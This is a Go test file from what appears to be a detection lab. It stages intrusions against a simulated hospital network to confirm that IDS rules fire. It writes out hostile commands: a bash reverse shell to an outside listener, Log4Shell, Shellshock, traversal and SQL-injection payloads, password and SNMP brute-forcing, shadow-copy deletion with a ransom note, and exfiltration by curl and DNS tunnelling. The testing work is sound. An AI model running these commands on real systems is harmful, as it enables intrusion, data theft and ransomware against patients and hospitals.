package lab

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

// Intrusion is something that an intruder does with a program that anybody can have, and the shipped rules that must find it.
// Nothing is exploited: servers that are sound refuse.
type Intrusion struct {
	Scenario
	Rules []int // their numbers
}

// Intrusions are played behind [Scenarios] where Bulwark watches: from a laptop that somebody has brought along.
func Intrusions() []Intrusion {
	return []Intrusion{
		{Scenario{"titles guessed (nmap)", guessTitles}, []int{9000001, 9000008}},
		{Scenario{"archive asked for everything (dcmtk)", askArchive}, []int{9000002, 9000003, 9000004, 9000005}},
		{Scenario{"images sent outside (dcmtk)", sendOutside}, []int{9000009}},
		{Scenario{"messages (HL7)", sendMessages}, []int{9000101, 9000103, 9000104, 9000105}},
		{Scenario{"record taken (curl)", takeRecord}, []int{9000201, 9000203, 9000204, 9000205, 9000207, 9000208, 9000209, 9000210}},
		{Scenario{"web servers tried (curl, nmap)", tryWeb}, []int{9001001, 9001002, 9001003, 9001005, 9001006, 9001007, 9001008}},
		{Scenario{"devices (curl, busybox, snmp, openssl)", tryDevices}, []int{9000301, 9000305, 9000307, 9000309}},
		{Scenario{"scans (nmap, onesixtyone)", scanMore}, []int{9000401, 9000402, 9000409}},
		{Scenario{"passwords (hydra, kinit, ldapwhoami)", guessMore}, []int{9000501, 9000504, 9000511, 9000513}},
		{Scenario{"domain asked (rpcclient, ldapsearch)", askDomain}, []int{9000611, 9000620, 9000621}},
		{Scenario{"file share held to ransom (smbclient)", holdToRansom}, []int{9000618, 9000619, 9000701, 9000702, 9000703, 9000704, 9000705, 9000706, 9000710}},
		{Scenario{"data carried away (rclone, curl, dig)", carryAway}, []int{9000801, 9000803, 9000806}},
		{Scenario{"remote control (bash, curl, openssl)", steer}, []int{9000901, 9000902, 9000903, 9000904, 9000907, 9000908, 9000909}},
	}
}

// laptop is the machine that somebody has brought along.
const laptop = "laptop"

// attempt runs a program that may well say no.
func (h *Host) attempt(ctx context.Context, name string, args ...string) error {
	ctx, cancel := context.WithTimeout(ctx, 40*time.Second)
	defer cancel()
	c := h.Command(ctx, name, args...)
	c.WaitDelay = time.Second // what it has started may hold its output open
	_, err := output(c)
	var exit *exec.ExitError
	if errors.As(err, &exit) || errors.Is(err, exec.ErrWaitDelay) {
		return nil
	}
	return err
}

// attempts runs a program with each line of words.
func (h *Host) attempts(ctx context.Context, name string, lines ...string) error {
	for _, words := range lines {
		if err := h.attempt(ctx, name, strings.Fields(words)...); err != nil {
			return err
		}
	}
	return nil
}

// lines are n lines of words.
func lines(n int, word func(i int) string) []string {
	all := make([]string, n)
	for i := range all {
		all[i] = word(i)
	}
	return all
}

func guessTitles(ctx context.Context, h *Hospital) error {
	target := addrOf("pacs").String()
	words, err := h.Host(laptop).write("titles.txt", strings.Join(lines(8, func(i int) string { return fmt.Sprint("PACS", i) }), "\n")+"\n")
	if err != nil {
		return err
	}
	return h.Host(laptop).attempts(ctx, "nmap", "-n -Pn -p 4242 --script +dicom-ping "+target,
		"-n -Pn -p 4242 --script +dicom-brute --script-args passdb="+words+" "+target)
}

func askArchive(ctx context.Context, h *Hospital) error {
	at := addrOf("pacs").String() + " 4242"
	if err := h.Host(laptop).attempts(ctx, "echoscu", lines(25, func(int) string { return "-aet NOBODY -aec PACS " + at })...); err != nil {
		return err
	}
	find := func(name string) string {
		return "-S -aet NOBODY -aec PACS -k QueryRetrieveLevel=STUDY -k PatientName=" + name + " -k StudyInstanceUID " + at
	}
	queries := append(lines(12, func(i int) string { return find(string(rune('A'+i)) + "*") }), find("*"))
	if err := h.Host(laptop).attempts(ctx, "findscu", queries...); err != nil {
		return err
	}
	return h.Host(laptop).attempts(ctx, "getscu", lines(30, func(i int) string {
		m := &modalities[i%len(modalities)]
		return "-S -aet NOBODY -aec PACS -od . -k QueryRetrieveLevel=STUDY -k StudyInstanceUID=" + m.study(Patients[i%len(modalities)]) + " " + at
	})...)
}

func sendOutside(ctx context.Context, h *Hospital) error {
	if err := h.Host(internetName).Start(ctx, []int{viewerPort}, "storescp", "--fork", "-aet", "ELSEWHERE", "--ignore", fmt.Sprint(viewerPort)); err != nil {
		return err
	}
	files, err := modalityOf("us1").make(h, Patients[2])
	if err != nil {
		return err
	}
	_, err = h.Host("us1").Run(ctx, "storescu", "-aet", "US_CART1", "-aec", "ELSEWHERE", internetAddr, fmt.Sprint(viewerPort), files[0])
	return err
}

func sendMessages(ctx context.Context, h *Hospital) error {
	now := time.Now()
	var all []hl7Message
	for i := range 35 {
		all = append(all, hl7Message{segments(msh("PORTAL|HOSP", "EHR|HOSP", "QBP^Q22", fmt.Sprint("Q", i), "2.5", now), "QPD|Q22^Find Candidates^HL7|1|@PID.5.1^A"), "AA"})
	}
	for i := range 12 {
		all = append(all, hl7Message{admission(Patients[0], "A29", fmt.Sprint("D", i), "1", "I", now), "AA"})
	}
	for i := range 25 {
		all = append(all, hl7Message{billing(Patients[0], fmt.Sprint("B", i), now), "AR"})
	}
	if err := h.sendAll(ctx, laptop, "ehr", ehrHL7, all); err != nil {
		return err
	}
	l, err := h.Host(internetName).Listen(ehrHL7)
	if err != nil {
		return err
	}
	s := serveHL7(l, "ELSEWHERE")
	return errors.Join(h.sendAll(ctx, "lis", internetName, ehrHL7, []hl7Message{{laboratory(Patients[1], "LABOUT1", 3, now), "AA"}}), s.close())
}

// ask fetches addresses of a server with curl, one call each.
func (h *Hospital) ask(ctx context.Context, words ...[]string) error {
	for _, w := range words {
		if err := h.Host(laptop).attempt(ctx, "curl", append([]string{"-s", "-o", "page", "-m", "5"}, w...)...); err != nil {
			return err
		}
	}
	return nil
}

func takeRecord(ctx context.Context, h *Hospital) error {
	base := "http://ehr." + Domain + "/fhir"
	accept := []string{"-H", "Accept: " + fhirType}
	get := func(path string, more ...string) []string { return append(append(accept, more...), base+path) }
	all := [][]string{get("/$export?_type=Patient"), get("/Patient?_count=500"), get("/Patient/"+Patients[0].MRN, "-H", "Authorization: Bearer eyJhbGciOi.J9.x")}
	for i := range 25 {
		all = append(all, get(fmt.Sprintf("/Patient/%d", 100000+i)), get("/Patient/"+Patients[i%len(Patients)].MRN+"/$everything"))
	}
	for i := range 6 {
		all = append(all, get(fmt.Sprintf("/Observation/none-%d", i), "-X", "DELETE"))
	}
	pacs := fmt.Sprintf("http://pacs.%s:%d", Domain, pacsHTTP)
	user := []string{"-u", pacsUser + ":" + pacsPassword}
	all = append(all, append(user, pacs+"/dicom-web/studies?limit=1000"), append(user, "-X", "POST", "-d", "print(1)", pacs+"/tools/execute-script"))
	return h.ask(ctx, all...)
}

func tryWeb(ctx context.Context, h *Hospital) error {
	base := "http://ehr." + Domain
	err := h.ask(ctx, []string{"-A", "${jndi:ldap://198.51.100.10/a}", base + "/"}, []string{"--path-as-is", base + "/a/..%2f..%2f..%2fetc/passwd"},
		[]string{base + "/uploads/x.php?cmd=whoami"}, []string{"-A", "() { :; }; /bin/ping -c 1 198.51.100.10", base + "/"},
		[]string{base + "/search?q=1%27%20UNION%20ALL%20SELECT%20name,password%20FROM%20users--"})
	if err != nil {
		return err
	}
	return h.Host(laptop).attempts(ctx, "nmap", "-n -Pn -p 80 --script http-enum,http-title "+addrOf("ehr").String())
}

func tryDevices(ctx context.Context, h *Hospital) error {
	old := h.Host("monitor1")
	if _, err := old.Run(ctx, "openssl", strings.Fields("req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=monitor1 -keyout old.key -out old.crt")...); err != nil {
		return err
	}
	err := old.Start(ctx, []int{8443}, "openssl", strings.Fields("s_server -accept 8443 -tls1 -cipher ALL:@SECLEVEL=0 -cert old.crt -key old.key -www")...)
	if err != nil {
		return err
	}
	if err := h.ask(ctx, []string{"-u", "orthanc:orthanc", fmt.Sprintf("http://pacs.%s:%d/system", Domain, pacsHTTP)}); err != nil {
		return err
	}
	host, monitor := h.Host(laptop), old.Addr.String()
	c := host.Command(ctx, "openssl", "s_client", "-connect", monitor+":8443", "-tls1", "-cipher", "ALL:@SECLEVEL=0")
	c.Stdin = strings.NewReader("Q\n")
	if _, err := output(c); err != nil {
		return err
	}
	if err := host.attempts(ctx, "timeout", "3 busybox tftp -g -r core-switch-running-config -l conf "+monitor); err != nil {
		return err
	}
	return host.attempts(ctx, "snmpset", "-v2c -c private -t 1 -r 0 "+monitor+" 1.3.6.1.2.1.1.5.0 s hacked")
}

func scanMore(ctx context.Context, h *Hospital) error {
	host := h.Host(laptop)
	words, err := host.write("communities.txt", "private\ncisco\nmanager\nadmin\nsecret\nsecurity\nsystem\nmonitor\nwrite\ntest\nguest\naccess\n")
	if err != nil {
		return err
	}
	monitor := addrOf("monitor1").String()
	if err := host.attempts(ctx, "nmap", "-n -Pn -sS -T4 --max-retries 1 -p 1-400 "+monitor); err != nil {
		return err
	}
	return host.attempts(ctx, "onesixtyone", "-c "+words+" "+monitor)
}

func guessMore(ctx context.Context, h *Hospital) error {
	host := h.Host(laptop)
	words, err := host.write("words.txt", strings.Join(lines(24, func(i int) string { return fmt.Sprint("Summer", 2000+i) }), "\n")+"\n")
	if err != nil {
		return err
	}
	if err := host.attempts(ctx, "hydra", "-I -t 16 -l "+nurse.user+" -P "+words+" ssh://"+addrOf("files").String()); err != nil {
		return err
	}
	for i := range 20 {
		if err := h.ask(ctx, []string{"-u", fmt.Sprint(pacsUser, ":Summer", i), fmt.Sprintf("http://pacs.%s:%d/system", Domain, pacsHTTP)}); err != nil {
			return err
		}
	}
	for i := range 14 {
		if err := host.logIn(ctx, account{nurse.user, fmt.Sprint("Summer", i)}); err == nil {
			return errors.New("a guessed password gets a ticket, and must not")
		}
		err := host.attempts(ctx, "ldapwhoami", "-x -H ldap://"+addrOf("dc").String()+" -D uid="+nurse.user+",ou=staff,"+"dc=hospital,dc=example -w Summer"+fmt.Sprint(i))
		if err != nil {
			return err
		}
	}
	return nil
}

func askDomain(ctx context.Context, h *Hospital) error {
	host := h.Host(laptop)
	if err := host.attempt(ctx, "rpcclient", "-U", "HOSPITAL\\"+nurse.user+"%"+nurse.password, addrOf("files").String(), "-c", "enumdomusers"); err != nil {
		return err
	}
	search := "-x -H ldap://" + addrOf("dc").String() + " -b dc=hospital,dc=example "
	return host.attempts(ctx, "ldapsearch", search+"(&(samAccountType=805306368)(userAccountControl:1.2.840.113556.1.4.803:=4194304)) cn",
		search+"(&(samAccountType=805306368)(servicePrincipalName=*)) cn")
}

func holdToRansom(ctx context.Context, h *Hospital) error {
	host := h.Host(laptop)
	image := string(modalityOf("us1").object(Patients[2], 1, 1))
	commands := []string{"mkdir held"}
	for name, text := range map[string]string{
		"HOW_TO_DECRYPT_FILES.txt": "pay us", "read.txt": "All your files are encrypted. To decrypt them go to http://abcdefghijklmnop.onion and pay.",
		"mimikatz.exe": "not the real one", "run.bat": "@echo off\r\nvssadmin.exe Delete Shadows /All /Quiet\r\n", "IM0001.dcm": "MZ" + image[2:],
		"ntds.dit": "not the real one", "lsass.dmp": "not the real one", "report.txt": "a report",
	} {
		if _, err := host.write(name, text); err != nil {
			return err
		}
		commands = append(commands, "put "+name+" held/"+name)
	}
	for i := range 6 {
		commands = append(commands, fmt.Sprintf("put report.txt held/r%d.docx", i), fmt.Sprintf("rename held/r%d.docx held/r%d.docx.lockbit", i, i))
	}
	for i := range 110 {
		commands = append(commands, fmt.Sprintf("rename held/report.txt held/report.x%d", i), fmt.Sprintf("rename held/report.x%d held/report.txt", i))
	}
	return host.smb(ctx, "ward", nurse, append(commands, "deltree held")...)
}

func carryAway(ctx context.Context, h *Hospital) error {
	host := h.Host(laptop)
	if _, err := host.write("image.dcm", string(modalityOf("us1").object(Patients[2], 1, 1))); err != nil {
		return err
	}
	l, err := h.Host(internetName).Listen(8080)
	if err != nil {
		return err
	}
	taker := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body) //nolint:errcheck // who hung up has sent what it has
		w.WriteHeader(http.StatusCreated)
	})}
	go taker.Serve(l) //nolint:errcheck // ends when it is closed
	err = h.ask(ctx, []string{"-H", "Expect:", "-T", filepath.Join(host.dir, "image.dcm"), "http://www.example.org:8080/in/image.dcm"})
	if err = errors.Join(err, taker.Close()); err != nil {
		return err
	}
	if err := host.attempts(ctx, "rclone", "--retries 1 --low-level-retries 1 --config "+host.dir+"/rclone.conf lsd :webdav: --webdav-url http://www.example.org/dav"); err != nil {
		return err
	}
	at := "@" + addrOf("names").String()
	return host.attempts(ctx, "dig", lines(8, func(i int) string { return fmt.Sprintf("+tries=1 +time=2 %s z%d.t.example.net NULL", at, i) })...)
}

func steer(ctx context.Context, h *Hospital) error {
	host := h.Host(laptop)
	for _, name := range []string{"relay-4f2c.net.anydesk.com", "tunnel.eu.ngrok.com", "mozilla.cloudflare-dns.com"} {
		c := host.Command(ctx, "openssl", "s_client", "-connect", internetAddr+":443", "-servername", name)
		c.Stdin = strings.NewReader("Q\n")
		if _, err := output(c); err != nil {
			return err
		}
	}
	err := h.ask(ctx, []string{"-A", "CertUtil URL Agent", "http://www.example.org/a/tool.exe"}, []string{"http://www.example.org/tor/status-vote/current/consensus.z"})
	if err != nil {
		return err
	}
	if err := host.attempts(ctx, "dig", "+tries=1 +time=2 @"+addrOf("names").String()+" duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion"); err != nil {
		return err
	}
	return h.handShell(ctx)
}

// handShell has a shell call a machine outside, which listens to what it says and hangs up.
func (h *Hospital) handShell(ctx context.Context) error {
	l, err := h.Host(internetName).Listen(4444)
	if err != nil {
		return err
	}
	heard := make(chan error, 1)
	go func() {
		c, err := l.Accept()
		if err == nil {
			err = errors.Join(c.SetDeadline(time.Now().Add(10*time.Second)), hear(c, "job control"), c.Close())
		}
		heard <- err
	}()
	err = h.Host(laptop).attempt(ctx, "timeout", "10", "bash", "-c", "exec setsid bash -i >& /dev/tcp/"+internetAddr+"/4444 0>&1")
	return errors.Join(err, l.Close(), <-heard)
}

// hear reads until the words come.
func hear(c interface{ Read([]byte) (int, error) }, words string) error {
	var said []byte
	for p := make([]byte, 1024); !strings.Contains(string(said), words); {
		n, err := c.Read(p)
		if err != nil {
			return fmt.Errorf("a shell that calls says %q: %w", said, err)
		}
		said = append(said, p[:n]...)
	}
	return nil
}

// ruleExpectations are that the rules that are shipped find the intruders, and nobody who works in the hospital.
func ruleExpectations() []Expectation {
	var all []Expectation
	for _, x := range Intrusions() {
		for _, sid := range x.Rules {
			all = append(all, Expectation{Name: fmt.Sprintf("%s: rule %d tells of it", x.Name, sid), Kind: "alert", Min: 1, Match: m{"alert.sid": sid,
				"src_endpoint.ip": OneOf(at(laptop), at("us1"), at("lis"))}})
		}
	}
	for _, sid := range []int{9000003, 9000004, 9000401, 9000402, 9000501, 9000502, 9000805} {
		all = append(all, Expectation{Name: fmt.Sprintf("the attacker of the story is told of by rule %d", sid), Kind: "alert", Min: 1, Match: m{"alert.sid": sid,
			"src_endpoint.ip": at("attacker")}})
	}
	for _, name := range []string{"ct1", "mr1", "cr1", "viewer1", "nurse1", "pump1", "monitor1", "pacs", "archive", "ehr", "files", "dc", "names"} {
		all = append(all, Expectation{Name: "no shipped rule tells of what " + name + " does", Kind: "alert", Never: true, Match: m{"src_endpoint.ip": at(name)}})
	}
	return all
}
